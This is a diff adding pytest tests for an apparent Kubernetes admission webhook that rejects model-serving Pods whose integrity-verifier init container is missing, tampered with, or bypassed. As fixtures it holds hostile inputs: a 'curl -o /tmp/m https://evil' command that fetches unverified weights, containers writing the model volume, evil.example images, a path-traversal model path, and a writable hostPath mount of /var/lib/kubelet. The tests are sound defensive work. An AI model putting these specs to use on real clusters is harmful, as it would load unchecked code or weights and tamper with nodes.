@@ -1,0 +1,332 @@
+"""/validate-pods refuses a serving Pod whose verifier is missing, changed, not last, or undone by a
+writer; and one whose runtime loads what no verifier checks (issue 29, item 1, as an adversary)."""
+
+from __future__ import annotations
+
+import copy
+from collections.abc import Callable
+from typing import Any
+
+import pytest
+
+from modelseal.attest.verdict import Mode
+from modelseal.operator.admission.decision import AdmissionDecision, decide
+from modelseal.operator.decide.loaded_files import LoadedFile, LoadedFiles
+from modelseal.operator.podverify.container import NAME
+from tests.operator.podverify.shapes import CURL, IMAGE, cache_key, cached_pod, mutated, pvc_pod, review
+from tests.operator.podverify.test_mutation import FOLDER, NS, SOURCE, VERDICTS, A, lookup, services
+
+Pod = dict[str, Any]
+MODEL_PATH = f"/models/{cache_key(SOURCE)}/one.gguf"
+
+
+def judge(pod: Pod, mode: Mode = Mode.ENFORCE, **kwargs: Any) -> AdmissionDecision:
+    return decide(review(pod, NS)["request"], mode, lookup, services, verifier_image=IMAGE, **kwargs)
+
+
+def good() -> Pod:
+    return mutated(cached_pod(NS, "svc", "one", SOURCE), NS, lookup, services)
+
+
+def verifier(pod: Pod) -> dict[str, Any]:
+    return next(c for c in pod["spec"]["initContainers"] if c["name"] == NAME)
+
+
+def test_the_mutated_pod_is_allowed_and_one_without_the_verifier_is_not() -> None:
+    """The reproducer: an admitted Model's Pod that would curl an attacker's URL, unchecked, was admitted."""
+    assert judge(good()).allowed
+    bare = judge(cached_pod(NS, "svc", "one", SOURCE))
+    assert not bare.allowed and bare.message == (
+        f"modelseal: the Pod has no {NAME} init container: the model files would be loaded unchecked (is the"
+        " mutating webhook /mutate-pods registered?)"
+    )
+    pvc = judge(pvc_pod(NS, "svc", "one", "shared-claim", "evil.gguf"))
+    assert not pvc.allowed and f"no {NAME} init container" in pvc.message
+    warned = judge(cached_pod(NS, "svc", "one", SOURCE), Mode.WARN)
+    assert warned.allowed and f"no {NAME} init container" in warned.warnings[0]
+
+
+def _set(field: str, value: Any) -> Callable[[Pod], None]:
+    def change(pod: Pod) -> None:
+        verifier(pod)[field] = value
+
+    return change
+
+
+def _after(pod: Pod) -> None:
+    pod["spec"]["initContainers"].append({"name": "late", "image": CURL, "command": ["sh", "-c", "echo evil > /m"],
+                                          "volumeMounts": [{"name": "model-cache", "mountPath": "/models"}]})  # fmt: skip
+
+
+def _reorder(pod: Pod) -> None:
+    inits = pod["spec"]["initContainers"]
+    inits.insert(0, inits.pop())
+
+
+def _twice(pod: Pod) -> None:
+    pod["spec"]["initContainers"].append(copy.deepcopy(verifier(pod)))
+
+
+@pytest.mark.parametrize(
+    ("tamper", "said"),
+    [
+        (_set("image", "evil.example/modelseal:latest"), "field image differs"),
+        (_set("command", ["true"]), "field command differs"),
+        (_set("command", ["modelseal", "version"]), "field command differs"),
+        (_set("args", ["--expect", "b" * 64, MODEL_PATH]), "field args differs"),
+        (_set("args", []), "field args differs"),
+        (_set("env", [{"name": "PYTHONPATH", "value": "/models"}]), "field env differs"),
+        (_set("envFrom", [{"configMapRef": {"name": "x"}}]), "field envFrom differs"),
+        (
+            _set("volumeMounts", [{"name": "model-cache", "mountPath": "/models"}]),
+            "field volumeMounts differs",
+        ),
+        (_set("securityContext", {"runAsUser": 0}), "field securityContext differs"),
+        (_set("restartPolicy", "Always"), "field restartPolicy differs"),
+        (_set("terminationMessagePolicy", "File"), "field terminationMessagePolicy differs"),
+        (_after, "init container 'late' runs after modelseal-verify"),
+        (_reorder, "init container 'model-cache-prep' runs after modelseal-verify"),
+        (_twice, "the Pod has 2 modelseal-verify init containers"),
+    ],
+)
+def test_a_tampered_verifier_is_refused(tamper: Callable[[Pod], None], said: str) -> None:
+    pod = good()
+    tamper(pod)
+    decision = judge(pod)
+    assert not decision.allowed and said in decision.message, decision.message
+
+
+def _sidecar(read_only: bool | None, volume: str = "model-cache") -> Callable[[Pod], None]:
+    def add(pod: Pod) -> None:
+        mount = {
+            "name": volume,
+            "mountPath": "/cache",
+            **({"readOnly": read_only} if read_only is not None else {}),
+        }
+        pod["spec"]["initContainers"].insert(0, {"name": "swapper", "image": CURL, "restartPolicy": "Always",
+                                                 "volumeMounts": [mount]})  # fmt: skip
+
+    return add
+
+
+def _writable_container(pod: Pod) -> None:
+    pod["spec"]["containers"].append({"name": "helper", "image": CURL,
+                                      "volumeMounts": [{"name": "model-cache", "mountPath": "/m"}]})  # fmt: skip
+
+
+def _alias(pod: Pod) -> None:
+    """The same claim under another volume name, written by a sidecar."""
+    pod["spec"]["volumes"].append(
+        {"name": "again", "persistentVolumeClaim": {"claimName": "llmkube-model-cache"}}
+    )
+    _sidecar(False, "again")(pod)
+
+
+def _block(pod: Pod) -> None:
+    pod["spec"]["containers"].append({"name": "raw", "image": CURL,
+                                      "volumeDevices": [{"name": "model-cache", "devicePath": "/dev/m"}]})  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    ("tamper", "said"),
+    [
+        (_sidecar(None), "container 'swapper' mounts the model volume 'model-cache' writable"),
+        (_sidecar(False), "container 'swapper' mounts the model volume 'model-cache' writable"),
+        (_writable_container, "container 'helper' mounts the model volume 'model-cache' writable"),
+        (_alias, "container 'swapper' mounts the model volume 'again' writable"),
+        (_block, "container 'raw' has the model volume 'model-cache' as a block device"),
+    ],
+)
+def test_a_writer_beside_the_runtime_is_refused(tamper: Callable[[Pod], None], said: str) -> None:
+    """A native sidecar runs beside the runtime: writable, it could swap a file between check and load."""
+    pod = good()
+    tamper(pod)
+    decision = judge(pod)
+    assert not decision.allowed and said in decision.message
+    reading = good()
+    _sidecar(True)(reading)
+    assert judge(mutated(reading, NS, lookup, services)).allowed
+
+
+def _args(*extra: str, replace: bool = False, allow: bool = False) -> Pod:
+    pod = cached_pod(NS, "svc", "one", SOURCE)
+    runtime = pod["spec"]["containers"][0]
+    runtime["args"] = list(extra) if replace else [*runtime["args"], *extra]
+    return mutated(pod, NS, lookup, services, allow=allow)
+
+
+def test_the_model_argument_is_what_gets_checked_wherever_it_points() -> None:
+    """--model at another file of the cache: the verifier checks that file against the attested digest
+    (so the bytes the runtime loads are the attested ones, or the Pod does not start)."""
+    elsewhere = "/models/0123456789abcdef/other.gguf"
+    pod = _args("--model", elsewhere, "--port", "8080", replace=True)
+    assert judge(pod).allowed
+    assert verifier(pod)["args"] == ["--expect", A, elsewhere]
+
+
+@pytest.mark.parametrize(
+    ("extra", "said"),
+    [
+        (["--model", "/models/x/evil.gguf"], "the runtime is given 2 model paths"),
+        (["--lora", "/models/x/adapter.gguf"], "container 'llama-server' loads --lora '/models/x/adapter.gguf'"),
+        (["--mmproj", "/models/x/mm.gguf"], "--mmproj '/models/x/mm.gguf' is not one of Model ml/one's attested files"),
+        (["-md", "/models/x/d.gguf"], "the draft '/models/x/d.gguf' is neither a draft Model"),
+        (["--hf-repo", "org/evil"], "loads --hf-repo 'org/evil'"),
+        (["--trust-remote-code"], "--trust-remote-code runs Model ml/one's Python code, and none is attested"),
+    ],
+)  # fmt: skip
+def test_a_runtime_given_unchecked_weights_is_refused(extra: list[str], said: str) -> None:
+    decision = judge(_args(*extra))
+    assert not decision.allowed and said in decision.message, decision.message
+
+
+@pytest.mark.parametrize(
+    ("args", "said"),
+    [
+        (["--model", "models/one.gguf"], "is not an absolute, normalised path"),
+        (["--model", "/models/k/../../etc/evil.gguf"], "is not an absolute, normalised path"),
+        (["--model", "org/repo"], "is not an absolute, normalised path"),
+        (["--model", "/opt/baked/evil.gguf"], "is not on a volume of container 'llama-server'"),
+        (["--model", "/models/k/m-00001-of-00003.gguf"], "is a split GGUF part"),
+        (["--port", "8080"], "no container is given Model ml/one's path"),
+    ],
+)
+def test_a_model_path_that_cannot_be_checked_is_refused(args: list[str], said: str) -> None:
+    decision = judge(_args(*args, replace=True))
+    assert not decision.allowed and said in decision.message, decision.message
+
+
+def test_the_runtimes_environment_and_command_are_read() -> None:
+    pod = cached_pod(NS, "svc", "one", SOURCE)
+    pod["spec"]["containers"][0]["env"] = [{"name": "LLAMA_ARG_MMPROJ", "value": "/models/x/mm.gguf"}]
+    assert "sets LLAMA_ARG_MMPROJ" in judge(mutated(pod, NS, lookup, services)).message
+    pod = cached_pod(NS, "svc", "one", SOURCE)
+    pod["spec"]["containers"][0]["envFrom"] = [{"configMapRef": {"name": "vars"}}]
+    assert "takes envFrom" in judge(mutated(pod, NS, lookup, services)).message
+    pod = cached_pod(NS, "svc", "one", SOURCE)
+    pod["spec"]["containers"][0]["command"] = [
+        "sh",
+        "-c",
+        "curl -o /tmp/m https://evil && llama-server -m /tmp/m",
+    ]
+    assert "runs 'sh -c curl" in judge(mutated(pod, NS, lookup, services)).message
+    allowed = judge(mutated(pod, NS, lookup, services), allow_weight_paths=True)
+    assert not allowed.allowed and "no container is given Model ml/one's path" not in allowed.message
+
+
+def test_weights_the_flag_allows_are_allowed_with_a_warning_but_the_model_is_still_checked() -> None:
+    pod = _args("--lora", "/models/x/adapter.gguf", allow=True)
+    decision = judge(pod, allow_weight_paths=True)
+    assert decision.allowed and "loads --lora" in decision.warnings[0]
+    assert verifier(pod)["args"][-1] == MODEL_PATH
+
+
+def test_a_mount_the_verifier_cannot_reproduce_is_refused() -> None:
+    pod = cached_pod(NS, "svc", "one", SOURCE)
+    pod["spec"]["containers"][0]["volumeMounts"][0]["subPathExpr"] = "$(POD_NAME)"
+    assert "with subPathExpr or mount propagation" in judge(mutated(pod, NS, lookup, services)).message
+
+
+def test_a_subpath_and_a_mount_nested_in_the_models_are_seen_by_the_verifier_too() -> None:
+    """The runtime sees /models/<key> through another subPath of the claim: so does the verifier."""
+    pod = cached_pod(NS, "svc", "one", SOURCE)
+    nested = {
+        "name": "model-cache",
+        "mountPath": f"/models/{cache_key(SOURCE)}",
+        "subPath": "evil",
+        "readOnly": True,
+    }
+    pod["spec"]["containers"][0]["volumeMounts"].append(nested)
+    pod = mutated(pod, NS, lookup, services)
+    assert verifier(pod)["volumeMounts"] == [nested]  # the file is seen through the nested mount only
+    assert judge(pod).allowed
+
+
+def test_models_sharing_a_cache_folder_with_other_files_are_checked_exactly() -> None:
+    """Two folder Models with one source share /models/<key>: each Pod's verifier requires exactly its
+    own files there, so a file staged by the other Model (an unlisted shard) stops it at start."""
+    pod = mutated(cached_pod(NS, "multi", "folder", "s3://bucket/m", files=["m-00001-of-00002.gguf"]),
+                  NS, lookup, services)  # fmt: skip
+    assert verifier(pod)["args"][:2] == ["--exact", f"/models/{cache_key('s3://bucket/m')}"]
+    assert len([a for a in verifier(pod)["args"] if a == "--expect"]) == len(FOLDER.files)
+
+
+def test_remote_code_is_allowed_when_the_folder_attests_it() -> None:
+    coded = LoadedFiles((*FOLDER.files, LoadedFile("modeling.py", "e" * 64, "spec.files[2]")), folder=True)
+    VERDICTS["coded"] = VERDICTS["folder"].__class__(1, True, "admitted", loaded=coded)
+    try:
+        pod = cached_pod(NS, "multi", "coded", "s3://bucket/m", files=["m-00001-of-00002.gguf"],
+                         extra=["--trust-remote-code"])  # fmt: skip
+        assert judge(mutated(pod, NS, lookup, services)).allowed
+    finally:
+        del VERDICTS["coded"]
+
+
+def test_the_service_account_token_mount_is_allowed_read_only_and_nothing_else_there() -> None:
+    """The ServiceAccount admission plugin mounts the Pod's token into a verifier it sees (a Pod made
+    again from one holding it): read-only at its own path it changes nothing the verifier reads."""
+    token = {"name": "kube-api-access-x", "mountPath": "/var/run/secrets/kubernetes.io/serviceaccount"}
+    pod = good()
+    verifier(pod)["volumeMounts"].append({**token, "readOnly": True})
+    assert judge(pod).allowed
+    pod = good()
+    verifier(pod)["volumeMounts"].append(token)
+    assert "field volumeMounts differs" in judge(pod).message
+    refused = judge(_args("--model", "/var/run/secrets/kubernetes.io/serviceaccount/m.gguf", replace=True))
+    assert not refused.allowed and "is not an absolute, normalised path on a volume" in refused.message
+
+
+def test_a_host_path_written_beside_the_runtime_is_refused() -> None:
+    """A node's folder can be where the cache claim's files are: written beside the runtime, it
+    could swap them, whatever volume the verifier reads."""
+    pod = good()
+    pod["spec"]["volumes"].append({"name": "node", "hostPath": {"path": "/var/lib/kubelet"}})
+    pod["spec"]["containers"].append({"name": "agent", "image": CURL,
+                                      "volumeMounts": [{"name": "node", "mountPath": "/host"}]})  # fmt: skip
+    assert "container 'agent' mounts the model volume 'node' writable" in judge(pod).message
+    pod["spec"]["containers"][-1]["volumeMounts"][0]["readOnly"] = True
+    assert judge(pod).allowed
+
+
+@pytest.mark.parametrize("kind", ["configMap", "secret", "projected", "downwardAPI"])
+def test_a_model_file_on_a_volume_the_api_rewrites_is_refused(kind: str) -> None:
+    """The kubelet rewrites a ConfigMap's (Secret's, ...) files when the object changes: after the check."""
+    pod = cached_pod(NS, "svc", "one", SOURCE)
+    pod["spec"]["volumes"] = [{"name": "model-cache", kind: {"name": "weights"}}]
+    decision = judge(mutated(pod, NS, lookup, services))
+    assert not decision.allowed and f"is on a {kind} volume" in decision.message
+
+
+def _update(old: Pod, new: Pod, subresource: str | None = None) -> AdmissionDecision:
+    request = {**review(new, NS)["request"], "operation": "UPDATE", "oldObject": old}
+    if subresource:
+        request["subResource"] = subresource
+    return decide(request, Mode.ENFORCE, lookup, services, verifier_image=IMAGE)
+
+
+def test_a_running_pods_verifier_image_changed_in_place_is_refused() -> None:
+    """Kubernetes lets an UPDATE change an init container's image: the verifier would run another
+    program at the Pod's next start. Allowed before (only CREATE was judged)."""
+    before = good()
+    after = copy.deepcopy(before)
+    verifier(after)["image"] = "evil.example/modelseal:1"
+    denied = _update(before, after)
+    assert not denied.allowed and "field image differs" in denied.message
+    relabelled = copy.deepcopy(before)
+    relabelled["metadata"]["labels"]["extra"] = "x"
+    assert _update(before, relabelled).allowed
+
+
+def test_an_ephemeral_container_writing_the_model_volume_is_refused() -> None:
+    """kubectl debug adds an ephemeral container to a running Pod, beside the runtime."""
+    before = good()
+    after = copy.deepcopy(before)
+    after["spec"]["ephemeralContainers"] = [{"name": "debugger", "image": CURL,
+                                             "volumeMounts": [{"name": "model-cache", "mountPath": "/m"}]}]  # fmt: skip
+    denied = _update(before, after, "ephemeralcontainers")
+    assert (
+        not denied.allowed
+        and "container 'debugger' mounts the model volume 'model-cache' writable" in denied.message
+    )
+    after["spec"]["ephemeralContainers"][0]["volumeMounts"][0]["readOnly"] = True
+    assert _update(before, after, "ephemeralcontainers").allowed
